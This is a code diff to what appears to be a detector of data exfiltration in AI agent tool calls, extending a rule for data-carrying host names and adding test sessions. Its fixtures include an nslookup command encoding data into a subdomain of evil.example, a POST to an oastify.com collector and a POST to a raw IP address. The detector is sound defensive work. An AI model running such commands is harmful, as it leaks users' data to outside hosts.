@@ -103,7 +103,11 @@ def _kind() -> tuple[pl.Expr, pl.Expr]:
         for name, level, hosts in _SERVICES
     ]
     kinds += [
-        ("host name that carries data", "high", label.str.len_chars() >= _LONG_LABEL),
+        (
+            "host name that carries data",
+            "high",
+            (label.str.len_chars() >= _LONG_LABEL) | place.str.starts_with("*."),
+        ),
         ("raw network address", "medium", place.str.contains(_RAW_ADDRESS)),
         (_UNCLASSED, "low", unknown),
     ]
@@ -129,6 +133,10 @@ DETECTOR: Final = Detector(
         session(
             "collector",
             ("http_request", {"method": "POST", "url": "https://a1.oastify.com/x", "body": "a"}, "ok"),
+        ),
+        session(
+            "data in a host name",
+            ("bash", {"command": f"nslookup {'3f9a0c4d71' * 3}.evil.example"}, "ok"),
         ),
         session("raw address", ("http_post", {"url": "http://192.0.2.7:8080/u", "body": "notes"}, "ok")),
     ),
